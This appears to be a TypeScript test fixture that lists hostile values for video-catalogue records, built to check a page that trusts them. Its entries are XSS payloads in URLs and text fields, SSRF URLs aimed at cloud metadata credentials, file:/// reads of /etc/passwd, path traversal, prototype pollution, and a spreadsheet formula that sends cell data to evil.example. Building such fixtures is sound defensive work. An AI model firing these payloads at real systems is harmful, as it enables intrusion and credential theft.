import 'server-only';
import type { Twist } from './catalogue-twist';

const SCRIPT_PAGE = '<script>document.title="owned"</script>';

/** Data that would do harm in a page that trusts it. Nothing here may ever be rendered as markup, fetched or followed. */
export const HOSTILE_TWISTS: readonly Twist[] = [
  {
    name: 'url-javascript',
    note: 'javascript: in every URL',
    apply: ({ basic, file }) => {
      basic.CoverURL = 'javascript:alert(document.domain)';
      basic.InputURL = ' \tJaVaScRiPt:alert(1)//https://example.com/a.mp4';
      file.FileUrl = 'java\nscript:alert(1)';
    },
  },
  {
    name: 'url-data',
    note: 'data: in every URL',
    apply: ({ basic, file }) => {
      basic.CoverURL = `data:text/html,${encodeURIComponent(SCRIPT_PAGE)}`;
      basic.InputURL = 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+';
      file.FileUrl = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';
    },
  },
  {
    name: 'url-file',
    note: 'file: and blob: in every URL',
    apply: ({ basic, file }) => {
      basic.CoverURL = 'file:///etc/passwd';
      basic.InputURL = 'file://localhost/C:/Windows/win.ini';
      file.FileUrl = 'blob:https://example.com/3f0c6b8e-1111-4444-8888-abcdefabcdef';
    },
  },
  {
    name: 'url-metadata-service',
    note: 'URLs of the cloud’s metadata services',
    apply: ({ basic, file }) => {
      basic.CoverURL = 'http://169.254.169.254/latest/meta-data/';
      basic.InputURL = 'http://100.100.100.200/latest/meta-data/ram/security-credentials/';
      file.FileUrl = 'http://[::ffff:169.254.169.254]/latest/user-data';
    },
  },
  {
    name: 'url-loopback',
    note: 'URLs of this machine',
    apply: ({ basic, file }) => {
      basic.CoverURL = 'http://127.0.0.1:22/';
      basic.InputURL = 'http://localhost/admin';
      file.FileUrl = 'http://0x7f000001/internal.mp4';
    },
  },
  {
    name: 'url-lookalike',
    note: 'hosts that only look like Alibaba Cloud’s',
    apply: ({ basic, file }) => {
      basic.CoverURL = 'https://bucket.oss-cn-shanghai.aliyuncs.com.evil.example/cover.jpg';
      basic.InputURL = 'https://bucket.oss-cn-shanghai.aliyuncs.com@evil.example/input.mp4';
      file.FileUrl = 'https://evil.example/?u=.aliyuncs.com';
    },
  },
  {
    name: 'url-signed-cover',
    note: 'a signature already in the source URL, which no page may show',
    apply: ({ basic, signed }) => {
      basic.InputURL = signed('dunes/dunes-720p.mp4');
    },
  },
  {
    name: 'html-everywhere',
    note: 'markup in title, description, tags, category and user data',
    apply: ({ basic, file, biz }) => {
      basic.Title = '<img src=x onerror=alert(1)> Final <b>cut</b>';
      basic.Description = `${SCRIPT_PAGE}<iframe src="javascript:alert(1)"></iframe>`;
      basic.MediaTags = '<svg/onload=alert(1)>,"><script>,{{7*7}}，#{7*7}';
      basic.Category = '</td></tr></table>';
      basic.UserData = `{"html":"<a href='javascript:alert(1)'>click</a>","close":"</script><script>alert(1)</script>"}`;
      file.FileName = '"><script>alert(1)</script>.mp4';
      biz.SourceName = '<style>*{display:none}</style>';
    },
  },
  {
    name: 'formula-injection',
    note: 'text that a spreadsheet would take for a formula',
    apply: ({ basic, file }) => {
      basic.Title = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
      basic.Description = '@SUM(1+1)*cmd|" /C calc"!A0';
      basic.MediaTags = '+1,-1,=1+1';
      file.FileName = '-2+3.mp4';
    },
  },
  {
    name: 'path-traversal',
    note: 'file names and sprite keys that climb out of their folder',
    apply: ({ basic, file }) => {
      file.FileName = '../../../../etc/passwd';
      basic.SpriteImages =
        '[{"bucket":"contact-sheet-samples","count":"4","iceJobId":"","location":"oss-cn-shanghai","snapshotRegular":"../../etc/{Count}","spriteRegular":"../../../package.json?{TileCount}","templateId":"","tileCount":"1"}]';
    },
  },
  {
    name: 'sprite-bucket-hostile',
    note: 'a bucket and a location that would leave the OSS host',
    apply: ({ basic }) => {
      basic.SpriteImages =
        '[{"bucket":"evil.example/#","count":"4","iceJobId":"","location":"evil.example/?","snapshotRegular":"a-{Count}.jpg","spriteRegular":"a-{TileCount}.jpg","templateId":"","tileCount":"1"}]';
    },
  },
  {
    name: 'sprite-huge',
    note: 'a sprite that claims a thousand million cells',
    apply: ({ basic }) => {
      basic.SpriteImages =
        '[{"bucket":"contact-sheet-samples","count":"1000000000","iceJobId":"","location":"oss-cn-shanghai","snapshotRegular":"x-{Count}.jpg","spriteRegular":"x-{TileCount}.jpg","templateId":"","tileCount":"99999999"}]';
    },
  },
  {
    name: 'control-characters',
    note: 'NUL, escape sequences, line separators and a lone surrogate',
    apply: ({ basic }) => {
      basic.Title = 'Take\u0000 7 \u001b[31mred\u001b[0m\u0007 line\u2028separator\r\nnext \ud83d end';
      basic.Description = 'a\u0000b\u0008c\u007fd\u0085e';
      basic.UserData = '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}';
    },
  },
];
